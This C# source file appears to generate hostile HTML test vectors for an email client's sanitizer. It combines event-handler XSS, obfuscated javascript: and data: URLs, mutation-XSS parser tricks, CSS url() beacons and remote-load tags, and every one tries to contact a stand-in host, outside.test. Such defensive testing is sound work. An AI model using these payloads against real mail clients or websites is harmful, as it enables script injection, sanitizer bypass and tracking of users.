namespace Casella.Browser.Hostile;

/// <summary>
/// Hostile HTML of our own writing, by the classes D1–D6 of what mail has been attacked with: each tries to run a
/// script, which would ask outside.test, or to ask outside.test by itself.
/// </summary>
internal static class Vectors
{
    private const string Outside = "http://outside.test/";
    private const string Script = "new Image().src='http://outside.test/script'";

    private static readonly string[] Handlers =
    [
        "onload", "onerror", "onclick", "onfocus", "onblur", "onmouseover", "onmouseenter", "onpointerenter", "onanimationstart", "onanimationend",
        "ontransitionend", "ontoggle", "onbeforetoggle", "onpageshow", "onpagehide", "onhashchange", "onscroll", "onscrollend", "onresize", "oninput",
        "onchange", "onsubmit", "oninvalid", "onselect", "onselectionchange", "oncopy", "onpaste", "onloadstart", "onloadeddata", "onloadedmetadata",
        "oncanplay", "onplay", "onplaying", "onsuspend", "onemptied", "ondurationchange", "oncuechange", "onstart", "onfinish", "onbounce", "onbegin",
        "onend", "onrepeat", "onmessage", "onunhandledrejection", "onsecuritypolicyviolation", "oncontentvisibilityautostatechange", "onwheel", "onkeydown",
        "onunknownfuture",
    ];

    private static readonly string[] Carriers =
    [
        "<img src=x {0}=\"{1}\">", "<body {0}=\"{1}\">", "<svg {0}=\"{1}\">", "<input autofocus {0}=\"{1}\">", "<details open {0}=\"{1}\"><summary>s</summary></details>",
    ];

    private static readonly string[] Schemes =
    [
        "javascript:{0}", "JaVaScRiPt:{0}", " javascript:{0}", "java\tscript:{0}", "java\nscript:{0}", "java&#10;script:{0}", "javascript&colon;{0}", "&#106;avascript:{0}",
        "&#x6A;avascript:{0}", "javascript&#58;{0}", "\u0001javascript:{0}", "vbscript:{0}", "data:text/html,<script>{0}</script>",
        "data:text/html;base64,PHNjcmlwdD5uZXcgSW1hZ2UoKS5zcmM9J2h0dHA6Ly9vdXRzaWRlLnRlc3QvZGF0YSc8L3NjcmlwdD4=",
        "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{0}</script>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{0}'/>",
    ];

    private static readonly string[] Places =
    [
        "<a href=\"{0}\" id=x>a</a>", "<iframe src=\"{0}\"></iframe>", "<object data=\"{0}\"></object>", "<embed src=\"{0}\">", "<img src=\"{0}\">", "<form action=\"{0}\"><button>b</button></form>",
        "<svg><use href=\"{0}\"/></svg>", "<svg><a xlink:href=\"{0}\"><text y=20>t</text></a></svg>", "<math href=\"{0}\"><mi>m</mi></math>", "<base href=\"{0}\"><img src=p>",
        "<meta http-equiv=refresh content=\"0;url={0}\">", "<link rel=stylesheet href=\"{0}\">", "<video src=\"{0}\" autoplay></video>", "<button formaction=\"{0}\">b</button>",
    ];

    private static readonly string[] Remote =
    [
        "<img src=\"{0}\">", "<img srcset=\"{0} 1x\">", "<picture><source srcset=\"{0}\"><img></picture>", "<body background=\"{0}\">", "<table background=\"{0}\"><tr><td background=\"{0}\">t</td></tr></table>",
        "<video poster=\"{0}\"></video>", "<video src=\"{0}\" autoplay></video>", "<audio src=\"{0}\" autoplay></audio>", "<video><source src=\"{0}\"><track default src=\"{0}\"></video>",
        "<link rel=stylesheet href=\"{0}\">", "<link rel=icon href=\"{0}\">", "<link rel=preload as=image href=\"{0}\">", "<link rel=prefetch href=\"{0}\">", "<link rel=modulepreload href=\"{0}\">", "<link rel=manifest href=\"{0}\">",
        "<meta http-equiv=refresh content=\"0;url={0}\">", "<meta http-equiv=refresh content=\"0.1;{0}\">", "<iframe src=\"{0}\"></iframe>", "<iframe srcdoc=\"<img src='{0}'>\"></iframe>", "<frameset><frame src=\"{0}\"></frameset>",
        "<object data=\"{0}\"></object>", "<embed src=\"{0}\">", "<applet code=\"{0}\"></applet>", "<input type=image src=\"{0}\">", "<portal src=\"{0}\"></portal>", "<fencedframe src=\"{0}\"></fencedframe>",
        "<img lowsrc=\"{0}\" dynsrc=\"{0}\">", "<script src=\"{0}\"></script>", "<script type=module>import '{0}'</script>", "<svg><image href=\"{0}\" width=9 height=9 /></svg>", "<svg><image xlink:href=\"{0}\" width=9 height=9 /></svg>",
        "<svg><use href=\"{0}#x\" /></svg>", "<svg><feImage href=\"{0}\"/></svg>", "<svg><filter id=f><feImage xlink:href=\"{0}\"/></filter><rect width=9 height=9 filter=\"url(#f)\"/></svg>",
        "<svg><rect width=9 height=9 fill=\"url({0}#x)\" mask=\"url({0}#x)\" clip-path=\"url({0}#x)\"/></svg>", "<svg><script href=\"{0}\"></script></svg>", "<svg><foreignObject><img src=\"{0}\"></foreignObject></svg>",
        "<svg><set attributeName=href to=\"{0}\"/></svg>", "<svg><animate attributeName=href values=\"{0}\" /><image width=9 height=9 /></svg>", "<?xml-stylesheet href=\"{0}\"?><p>p</p>", "<base href=\"{0}\"><img src=relative>",
    ];

    private static readonly string[] Styles =
    [
        "background:url({0})", "background-image:url('{0}')", "background:\\75\\72\\6c({0})", "background:u\\72l({0})", "background:/**/url(/**/{0})", "background-image:image-set(url({0}) 1x)", "background-image:-webkit-image-set(url({0}) 1x)",
        "background-image:image-set('{0}' 1x)", "background-image:cross-fade(url({0}),url({0}),50%)", "list-style-image:url({0})", "list-style:url({0})", "border-image:url({0}) 1", "border-image-source:url({0})", "cursor:url({0}),auto",
        "content:url({0})", "mask:url({0})", "-webkit-mask:url({0})", "-webkit-mask-image:url({0})", "mask-image:url({0})", "filter:url({0}#x)", "clip-path:url({0}#x)", "shape-outside:url({0})", "-webkit-box-reflect:below 0 url({0})",
        "--x:url({0});background:var(--x)", "background:url({0}", "background:url('{0}", "offset-path:url({0}#x)", "fill:url({0}#x)", "marker:url({0}#x)", "src:url({0})", "behavior:url({0})", "-moz-binding:url({0})", "width:expression(alert(1))",
        "position:fixed;background:url({0})", "background:url(\"{0}\")!important", "color:red;}}*{{background:url({0})", "background:url(//outside.test/x)",
    ];

    private static readonly string[] Sheets =
    [
        "@import '{0}';", "@import url({0});", "@import url({0}) layer(x);", "@\\69mport '{0}';", "@font-face{{font-family:x;src:url({0})}}*{{font-family:x}}", "body{{background:url({0})}}", ":root{{background:url({0})}}", "html{{background:url({0})}}",
        "*{{background:url({0})}}", "@media all{{*{{background:url({0})}}}}", "@supports (color:red){{*{{background:url({0})}}}}", "@layer x{{*{{background:url({0})}}}}", "@container (width>0){{*{{background:url({0})}}}}", "p::before{{content:url({0})}}",
        "p:has(a){{background:url({0})}}", "p:not(x){{background:url({0})}}", "@namespace url({0});", "@document url({0}){{*{{color:red}}}}", "@page{{background:url({0})}}", "@keyframes k{{from{{background:url({0})}}}}p{{animation:k 1s}}",
    ];

    /// <summary>Parsers that disagree (mXSS), and elements that run by themselves.</summary>
    private static readonly string[] Confused =
    [
        "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script/x>{0}</script>", "<script\n>{0}</script>", "<<script>{0}</script>", "<scr<script>ipt>{0}</script>", "<script>{0}", "<svg><script>{0}</script></svg>", "<svg><script>{0}<!-- </script>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={0}&gt;\">", "<math><mtext><mglyph><malignmark><script>{0}</script>", "<svg></p><style><a id=\"</style><img src=1 onerror={0}>\">",
        "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "<template><img src=x onerror={0}></template>", "<xmp><img title=\"</xmp><img src=x onerror={0}>\"></xmp>", "<noembed><img title=\"</noembed><img src=x onerror={0}>\"></noembed>",
        "<noframes><p title=\"</noframes><img src=x onerror={0}>\"></noframes>", "<plaintext><img src=x onerror={0}>", "<textarea><p title=\"</textarea><img src=x onerror={0}>\"></textarea>", "<title><p title=\"</title><img src=x onerror={0}>\"></title>",
        "<style><p title=\"</style><img src=x onerror={0}>\"></style>", "<iframe><p title=\"</iframe><img src=x onerror={0}>\"></iframe>", "<select><option><img src=x onerror={0}></select>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={0}>",
        "<annotation-xml encoding=\"text/html\"><img src=x onerror={0}></annotation-xml>", "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror={0}></style></annotation-xml></math>", "<svg><desc><img src=x onerror={0}></desc></svg>",
        "<svg><title><style><img src=x onerror={0}></style></title></svg>", "<svg><foreignObject><iframe srcdoc=\"<script>{0}</script>\"></iframe></foreignObject></svg>", "<!--><img src=x onerror={0}>-->", "<!---><img src=x onerror={0}>-->", "<!-- --!><img src=x onerror={0}>-->",
        "<![CDATA[<img src=x onerror={0}>]]>", "<svg><![CDATA[><img src=x onerror={0}>]]></svg>", "<?x ><img src=x onerror={0}>?>", "<a><table><a><img src=x onerror={0}></a></table></a>", "<img src=x\0 onerror={0}>", "<img/src=x/onerror={0}>", "<img src=x onerror\n=\n{0}>",
        "<img src=`x`onerror={0}>", "<img alt='a\"b' src=x onerror={0}>", "<x onfocus={0} tabindex=0 autofocus>", "<video><source onerror={0}></video>", "<audio src=x onerror={0}>", "<marquee onstart={0}>m</marquee>", "<isindex type=image src=x onerror={0}>",
        "<svg><animate onbegin={0} attributeName=x dur=1s>", "<svg><set onbegin={0} attributeName=x>", "<svg><animate attributeName=href values=javascript:{0} /><a id=x><text y=20>t</text></a></svg>", "<svg><a><animate attributeName=\"href \" to=\"javascript:{0}\"/><text y=20>t</text></a></svg>",
        "<object type=text/html data=\"javascript:{0}\"></object>", "<iframe srcdoc=\"&lt;script&gt;{0}&lt;/script&gt;\"></iframe>", "<button popovertarget=p>x</button><div popover id=p onbeforetoggle={0}>p</div>", "<dialog open onclose={0}>d</dialog>",
        "<input onfocus={0} autofocus>", "<keygen autofocus onfocus={0}>", "<body><template shadowrootmode=open><img src=x onerror={0}></template></body>", "<div><template shadowrootmode=open><script>{0}</script></template></div>", "<meta charset=utf-7>+ADw-script+AD4-{0}+ADw-/script+AD4-",
    ];

    public static IReadOnlyList<string> All { get; } =
    [
        .. from carrier in Carriers from handler in Handlers select string.Format(System.Globalization.CultureInfo.InvariantCulture, carrier, handler, Script),
        .. from place in Places from scheme in Schemes select With(place, With(scheme, Script)),
        .. Remote.Select(one => With(one, $"{Outside}remote")),
        .. Styles.Select(style => $"<p style=\"{With(style, $"{Outside}style").Replace("\"", "&quot;", StringComparison.Ordinal)}\">p</p>"),
        .. Sheets.Select(sheet => $"<style>{With(sheet, $"{Outside}sheet")}</style><p>p<a>a</a></p>"),
        .. Sheets.Select(sheet => $"<svg><style>{With(sheet, $"{Outside}sheet")}</style></svg><p>p<a>a</a></p>"),
        .. Confused.Select(one => With(one, Script.Replace(' ', '/').Replace("new/Image", "new(Image)", StringComparison.Ordinal))),
    ];

    private static string With(string pattern, string text) => pattern.Replace("{{", "{", StringComparison.Ordinal).Replace("}}", "}", StringComparison.Ordinal).Replace("{0}", text, StringComparison.Ordinal);
}
